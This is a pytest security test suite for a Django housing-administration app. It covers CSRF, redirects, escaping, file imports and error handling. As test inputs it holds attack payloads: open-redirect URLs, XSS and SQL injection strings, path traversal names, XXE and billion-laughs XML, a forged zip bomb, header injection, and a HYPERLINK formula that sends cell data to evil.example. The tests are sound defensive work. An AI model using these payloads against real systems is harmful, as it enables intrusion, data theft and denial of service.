"""What somebody with bad intentions tries on the screens. docs/security.md names each of these tests as evidence."""

import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import python_calamine
from allauth.mfa.models import Authenticator
from django.conf import settings as current
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import get_resolver, reverse
from django.urls.converters import UUIDConverter
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from pytest_django import Settings

from tests.web.conftest import As
from tests.web.factories import PASSWORD, TODAY, Town
from voordeur.actions import import_file
from voordeur.actions.import_file import carry_out, next_run
from voordeur.store.models import BankLine, FieldEvent, Home, ImportProblem, ImportRun, Neighbourhood, Tenant
from voordeur.web import rows_to_correct, upload_limits
from voordeur.web.rows_to_correct import harmless

ELSEWHERE = (
    "https://evil.example",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    " https://evil.example",
    "http:evil.example",
    "https://testserver@evil.example",
)
SCRIPT = '"><script>alert(1)</script>{{ 4000|add:77 }}'


def every_address(town: Town) -> list[str]:
    """All addresses there are, with numbers filled in."""
    found = []
    for name, (possible, _pattern, _defaults, converters) in get_resolver().reverse_dict.items():
        (_, params), *_rest = possible
        if isinstance(name, str):
            numbers: dict[str, Any] = {
                param: town.booked_run.pk if isinstance(kind, UUIDConverter) else 1
                for param, kind in converters.items()
            }
            found.append(
                reverse(name, kwargs={param: (numbers | {"form": "csv"})[param] for param in params})
            )
    return sorted(found)


class TestHeaders:
    @pytest.mark.parametrize("who", ["nobody", "administrator"])
    def test_every_page_says_what_a_browser_may_do(self, who: str, small_town: Town, as_user: As) -> None:
        client = as_user(getattr(small_town, who, None))
        addresses = every_address(small_town)
        assert len(addresses) > 40
        runs_python = {reverse("field"), reverse("python_worker")}
        for address in addresses:
            answer = client.get(address)
            policy = answer["Content-Security-Policy"]
            assert "default-src 'self'" in policy
            own = policy.replace("'wasm-unsafe-eval'", "") if address in runs_python else policy
            assert "unsafe" not in own
            assert "*" not in policy
            assert "frame-ancestors 'none'" in policy
            assert answer["X-Frame-Options"] == "DENY"
            assert answer["X-Content-Type-Options"] == "nosniff"
            assert answer["Referrer-Policy"] == "same-origin"
            assert answer["Cross-Origin-Opener-Policy"] == "same-origin"
            assert answer["Cross-Origin-Resource-Policy"] == "same-origin"
            assert "camera=()" in answer["Permissions-Policy"]

    def test_pages_with_people_are_kept_nowhere(self, small_town: Town, as_user: As) -> None:
        answer = as_user(small_town.manager).get(reverse("tenancy", args=[small_town.first_door.pk]))
        assert "no-store" in answer["Cache-Control"]

    def test_no_page_holds_inline_script_or_style(self, small_town: Town, as_user: As) -> None:
        for address in every_address(small_town):
            text = as_user(small_town.administrator).get(address).content.decode(errors="replace")
            assert " style=" not in text, address
            assert "<style" not in text, address
            assert " onclick=" not in text, address
            scripts = text.count("<script") - text.count('type="application/json"')
            assert scripts == len(re.findall(r'<script (?:type="module" )?src="/', text)), address

    def test_cookies_are_out_of_reach_of_scripts_and_other_sites(self, small_town: Town) -> None:
        answer = Client().post(reverse("account_login"), {"login": "marit", "password": PASSWORD})
        cookie = answer.cookies[current.SESSION_COOKIE_NAME]
        assert cookie["httponly"]
        assert cookie["samesite"] == "Lax"

    def test_over_https_browsers_remember_that(self, settings: Settings, db: None) -> None:
        settings.SECURE_HSTS_SECONDS = 31_536_000
        answer = Client().get(reverse("account_login"), secure=True)
        assert "max-age=31536000" in answer["Strict-Transport-Security"]

    def test_another_host_name_is_refused(self, db: None) -> None:
        assert Client().get(reverse("account_login"), headers={"host": "evil.example"}).status_code == 400


class TestOtherSites:
    def test_no_form_works_without_its_token(self, small_town: Town) -> None:
        """CSRF: every address, signed in as whoever may do most there."""
        for user in (small_town.consultant, small_town.administrator, None):
            client = Client(enforce_csrf_checks=True)
            if user is not None:
                client.force_login(user)
            for address in set(every_address(small_town)) - {reverse("field_contact")}:
                assert client.post(address).status_code in (302, 403, 404, 405), address
                assert client.session.get("_auth_user_id") == (str(user.pk) if user else None), address

    def test_what_a_phone_delivers_needs_no_token_because_it_is_sealed(self, small_town: Town) -> None:
        """Without the key of a day nothing is taken in, and nothing is told."""
        client = Client(enforce_csrf_checks=True)
        client.force_login(small_town.manager)
        box = {"id": str(small_town.booked_run.pk), "phone": str(small_town.booked_run.pk), "box": "AAAA"}
        answer = client.post(reverse("field_contact"), {"boxes": [box]}, "application/json")
        assert (answer.status_code, FieldEvent.objects.count()) == (200, 0)
        assert not answer.json().get("packet")

    def test_a_form_without_a_token_changes_nothing(self, small_town: Town) -> None:
        client = Client(enforce_csrf_checks=True)
        client.force_login(small_town.administrator)
        before = small_town.manager.password
        answer = client.post(reverse("staff_password", args=[small_town.manager.pk]))
        small_town.manager.refresh_from_db()
        assert (answer.status_code, small_town.manager.password) == (403, before)

    @pytest.mark.parametrize(
        "name", ["set_language", "light", "solve", "staff_password", "member_unlock", "import_stop"]
    )
    def test_what_changes_something_is_never_asked_by_a_link(
        self, name: str, small_town: Town, as_user: As
    ) -> None:
        needs = {"solve": {"problem_id": 1}, "import_stop": {"run_id": small_town.booked_run.pk}}
        kwargs = needs.get(name, {"member_id": 1} if name in ("staff_password", "member_unlock") else {})
        answer = as_user(small_town.administrator).get(reverse(name, kwargs=kwargs))
        assert answer.status_code == 405 or (name == "set_language" and answer.status_code == 302)

    @pytest.mark.parametrize("elsewhere", ELSEWHERE)
    def test_nobody_is_led_to_another_site(self, elsewhere: str, small_town: Town, as_user: As) -> None:
        entering = {"login": "marit", "password": PASSWORD, "next": elsewhere}
        answers = [
            Client().post(reverse("account_login") + "?next=" + elsewhere, entering),
            as_user(None).post(reverse("set_language"), {"language": "en", "next": elsewhere}),
            as_user(None).post(reverse("light"), {"light": "avond", "next": elsewhere}),
            as_user(small_town.manager).post(reverse("account_logout"), {"next": elsewhere}),
            as_user(small_town.manager).get(reverse("account_login"), {"next": elsewhere}),
            as_user(small_town.manager).post(
                reverse("account_reauthenticate"), {"password": PASSWORD, "next": elsewhere}
            ),
        ]
        for answer in answers:
            assert answer.status_code == 302
            assert "evil" not in answer["Location"]
            assert answer["Location"].startswith("/")
            assert not answer["Location"].startswith(("//", "/\\"))


class TestNumbersOfOthers:
    def test_a_passkey_of_somebody_else_looks_like_none(self, small_town: Town) -> None:
        theirs = Authenticator.objects.create(user=small_town.consultant, type="webauthn", data={"name": "x"})
        client = Client()
        client.post(reverse("account_login"), {"login": "marit", "password": PASSWORD})
        client.post(reverse("account_reauthenticate"), {"password": PASSWORD})
        for name in ("mfa_remove_webauthn", "mfa_edit_webauthn"):
            for number in (theirs.pk, 999_999):
                assert client.get(reverse(name, args=[number])).status_code == 404
                assert client.post(reverse(name, args=[number]), {"name": "y"}).status_code == 404
        assert Authenticator.objects.filter(pk=theirs.pk).exists()

    def test_there_is_no_back_door_for_administrators(self, small_town: Town, as_user: As) -> None:
        for address in ("/admin/", "/admin/login/", "/api/", "/__debug__/", "/.env", "/.git/config"):
            assert as_user(small_town.administrator).get(address).status_code == 404

    def test_an_account_cannot_be_made_by_oneself(self, db: None) -> None:
        for address in (
            "/account/signup/",
            "/accounts/signup/",
            "/account/nieuw/",
            "/accounts/social/signup/",
        ):
            assert Client().post(address, {"username": "x", "password1": PASSWORD}).status_code == 404


class TestTextThatIsCode:
    def test_a_name_that_is_a_script_is_shown_as_text(self, small_town: Town, as_user: As) -> None:
        Tenant.objects.update(name=SCRIPT, phone=SCRIPT[:24])
        Home.objects.update(street=SCRIPT)
        Neighbourhood.objects.filter(pk=small_town.molenkwartier.pk).update(name=SCRIPT)
        BankLine.objects.update(remittance=SCRIPT, name=SCRIPT)
        ImportProblem.objects.update(value=SCRIPT, column=SCRIPT)
        ImportRun.objects.update(file_name=SCRIPT)
        seen = 0
        for user in (small_town.manager, small_town.consultant, small_town.chief, small_town.administrator):
            client = as_user(user)
            pages = [*every_address(small_town), reverse("tenancy", args=[small_town.first_door.pk])]
            for address in pages:
                answer = client.get(address)
                if "html" not in answer["Content-Type"]:
                    continue
                text = answer.content.decode()
                assert "<script>alert" not in text, address
                assert "4077" not in text, address
                seen += "&lt;script&gt;alert" in text
        assert seen > 8

    @pytest.mark.parametrize(
        "text", ["' OR 1=1 --", "%", "_", "'; DROP TABLE store_tenant; --", "\x00", "🙂" * 100]
    )
    def test_a_search_is_no_query(self, text: str, small_town: Town, as_user: As) -> None:
        answer = as_user(small_town.manager).post(reverse("search"), {"q": text})
        assert answer.status_code == 200
        assert "Veldhuizer" not in answer.content.decode()
        assert Tenant.objects.count() == 12


class TestFilesThatWeGive:
    @given(st.text(st.characters(codec="utf-8"), max_size=12))
    def test_no_cell_is_a_formula(self, text: str) -> None:
        for start in ("", "=", "+", "-", "@", "\t", "\r", " =", "\u00a0=", "|", "%"):
            cell = harmless(start + text)
            first = cell.lstrip()[:1]
            assert first not in ("=", "@", "|", "%")
            assert first not in ("+", "-") or cell.strip()[1:].replace(".", "").replace(",", "").isdecimal()

    def test_a_refused_row_cannot_run_in_the_spreadsheet_of_who_mends_it(
        self, small_town: Town, as_user: As
    ) -> None:
        evil = '=HYPERLINK("https://evil.example/?"&A1)'
        head, key = "Contractnr;Verv.dat;Soort;Bedrag;D/C", small_town.first_door.key
        ledger = f"{head}\r\n{key};01-12-2026;HUUR;1,00;D\r\n{evil};x;{evil};1;D\r\n"
        client = as_user(small_town.consultant)
        upload(client, "huur.csv", ledger.encode())
        run = ImportRun.objects.latest("created")
        sheets = {
            form: client.get(reverse("rows_file", args=[run.pk, form])).content for form in ("csv", "xlsx")
        }
        rows = list(csv.reader(io.StringIO(sheets["csv"].decode("utf-8-sig")), delimiter=";"))
        cells = [cell for row in rows for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not any(cell.startswith("=") for cell in cells)
        with zipfile.ZipFile(io.BytesIO(sheets["xlsx"])) as book:
            assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
        table = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(sheets["xlsx"])).get_sheet_by_index(
            0
        )
        assert not any(str(cell).startswith("=") for row in table.to_python() for cell in row)

    @pytest.mark.parametrize("form", ["../../settings", "html", "csv%00", "exe"])
    def test_only_two_kinds_of_file_can_be_asked_for(self, form: str, small_town: Town, as_user: As) -> None:
        address = f"/inlezen/{small_town.booked_run.pk}/regels.{form}"
        assert as_user(small_town.consultant).get(address).status_code == 404

    def test_only_the_refused_rows_are_given_as_a_table(self, small_town: Town, as_user: As) -> None:
        """A new address that gives a table must be tried against formulas too: here it would be noticed."""
        tables = set()
        for user in (small_town.consultant, small_town.chief, small_town.administrator):
            client = as_user(user)
            for address in every_address(small_town):
                kind = client.get(address)["Content-Type"]
                if "csv" in kind or "sheet" in kind or "excel" in kind:
                    tables.add(address)
        assert tables == {reverse("rows_file", args=[small_town.booked_run.pk, "csv"])}

    def test_the_name_of_a_file_adds_no_header(self, small_town: Town, as_user: As) -> None:
        ImportRun.objects.filter(pk=small_town.booked_run.pk).update(file_name='a"\r\nSet-Cookie: x=1.csv')
        answer = as_user(small_town.consultant).get(
            reverse("rows_file", args=[small_town.booked_run.pk, "csv"])
        )
        assert "Set-Cookie" not in answer.headers
        assert "\n" not in answer["Content-Disposition"]

    @pytest.mark.parametrize(
        "path",
        [
            "../settings.py",
            "..%2f..%2fsettings.py",
            "%2e%2e/settings.py",
            "voordeur/../../../settings.py",
            "/etc/passwd",
        ],
    )
    def test_static_files_are_only_static_files(self, path: str, db: None) -> None:
        answer = Client().get(f"/static/{path}")
        assert answer.status_code in (302, 404)
        assert "SECRET" not in answer.content.decode(errors="replace")


def upload(client: Client, name: str, content: bytes) -> Any:
    """Send a file and let the worker read it."""
    answer = client.post(reverse("imports"), {"chosen": SimpleUploadedFile(name, content)})
    while (run := next_run()) is not None:
        carry_out(run, TODAY)
    return answer


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


class TestFilesThatWeGet:
    @pytest.mark.parametrize(
        "name",
        [
            "../../../etc/cron.d/x.csv",
            "..\\..\\x.csv",
            "/etc/passwd",
            "C:\\x.csv",
            "a.csv/../../b",
            ".htaccess",
        ],
    )
    def test_a_name_never_decides_where_a_file_goes(self, name: str, small_town: Town, as_user: As) -> None:
        upload(as_user(small_town.consultant), name, b"Contractnr;Bedrag\r\n1;2\r\n")
        run = ImportRun.objects.latest("created")
        kept = Path(run.path)
        assert kept.resolve().parent == Path(current.UPLOADS).resolve()
        assert kept.stem == str(run.pk)
        assert "/" not in run.file_name
        assert "\\" not in run.file_name

    @pytest.mark.parametrize(
        "content",
        [
            f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">{LAUGHS}]><Document>&l9;</Document>',
            '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><Document>&x;</Document>',
            '<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://192.0.2.1/x.dtd"><Document/>',
            '<?xml version="1.0"?>' + "<a>" * 5000,
            '<?xml version="1.0"?><Document a="' + "x" * 3_000_000 + '"/>',
        ],
        ids=["billion laughs", "outside entity", "outside grammar", "deep", "wide"],
    )
    def test_an_xml_bomb_is_refused_in_words(self, content: str, small_town: Town, as_user: As) -> None:
        client = as_user(small_town.consultant)
        upload(client, "bank.xml", content.encode())
        run = ImportRun.objects.latest("created")
        page = client.get(reverse("import_run", args=[run.pk]))
        assert page.status_code == 200
        assert run.state == ImportRun.State.FAILED
        assert "root:" not in page.content.decode()
        assert ImportProblem.objects.filter(run=run).exists()

    def test_a_zip_bomb_is_refused_in_words(self, small_town: Town, as_user: As) -> None:
        """What says that it unpacks to 4 GB is not unpacked; what lies about it meets the limits of its process."""
        client = as_user(small_town.consultant)
        for content in (_says_it_is_huge(_workbook()), _workbook(rows=1, cell=b"<is>" * 500_000)):
            upload(client, "huur.xlsx", content)
            run = ImportRun.objects.latest("created")
            assert ImportProblem.objects.filter(run=run, fatal=True).exists()
            assert client.get(reverse("import_run", args=[run.pk])).status_code == 200

    def test_one_person_sends_only_so_many_files_a_day(
        self, small_town: Town, as_user: As, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(import_file, "MOST_A_DAY", 2)
        client, kept = as_user(small_town.consultant), ImportRun.objects.count()
        for _ in range(2):
            assert (
                client.post(reverse("imports"), {"chosen": SimpleUploadedFile("a.csv", b"x")}).status_code
                == 302
            )
        refused = client.post(reverse("imports"), {"chosen": SimpleUploadedFile("a.csv", b"x")})
        assert refused.status_code == 409
        assert ImportRun.objects.count() == kept + 2
        yesterday = timezone.now() - timedelta(days=1, minutes=1)
        ImportRun.objects.filter(user=small_town.consultant).update(created=yesterday)
        assert (
            client.post(reverse("imports"), {"chosen": SimpleUploadedFile("a.csv", b"x")}).status_code == 302
        )

    def test_nobody_may_send_much_before_signing_in(self, small_town: Town) -> None:
        large = {"login": "x", "password": "y" * (upload_limits.NOBODY + 1)}
        assert Client().post(reverse("account_login"), large).status_code == 413
        assert (
            Client()
            .post(reverse("imports"), {"chosen": SimpleUploadedFile("a.csv", b"x" * 70_000)})
            .status_code
            == 413
        )

    def test_only_who_reads_files_may_send_large_ones(
        self, small_town: Town, as_user: As, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(upload_limits, "SOMEBODY", 1000)
        sent = {"q": "x" * 2000}
        assert as_user(small_town.manager).post(reverse("search"), sent).status_code == 413
        assert as_user(small_town.consultant).post(reverse("search"), sent).status_code == 200


def _workbook(rows: int = 10, cell: bytes = b'<c t="inlineStr"><is><t>a</t></is></c>') -> bytes:
    """A workbook of one sheet, written by hand."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for name, text in _WORKBOOK.items():
            book.writestr(name, text)
        sheet = b"<row>" + cell + b"</row>"
        head = f'<worksheet xmlns="{_MAIN}/spreadsheetml/2006/main"><sheetData>'.encode()
        book.writestr("xl/worksheets/sheet1.xml", head + sheet * rows + b"</sheetData></worksheet>")
    return out.getvalue()


def _says_it_is_huge(book: bytes) -> bytes:
    """The last line of the table of contents tells of 4 GB (its bytes 24 to 27)."""
    line = book.rindex(b"PK\x01\x02")
    return book[: line + 24] + b"\xfe\xff\xff\xff" + book[line + 28 :]


_MAIN = "http://schemas.openxmlformats.org"
_WORKBOOK = {
    "[Content_Types].xml": f'<Types xmlns="{_MAIN}/package/2006/content-types"><Default Extension="xml" '
    'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{_MAIN}/package/2006/relationships"><Relationship Id="r1" '
    f'Type="{_MAIN}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{_MAIN}/spreadsheetml/2006/main" '
    f'xmlns:r="{_MAIN}/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets>'
    "</workbook>",
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_MAIN}/package/2006/relationships"><Relationship Id="r1" '
    f'Type="{_MAIN}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}


def test_an_error_tells_nothing_of_the_inside(
    small_town: Town, as_user: As, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*args: object) -> None:
        raise RuntimeError("mevrouw Veldhuizer")

    monkeypatch.setattr(rows_to_correct, "answer", fail)
    client = as_user(small_town.consultant)
    client.raise_request_exception = False
    answer = client.get(reverse("rows_file", args=[small_town.booked_run.pk, "csv"]))
    assert answer.status_code == 500
    assert "Veldhuizer" not in answer.content.decode()
    assert "Traceback" not in answer.content.decode()
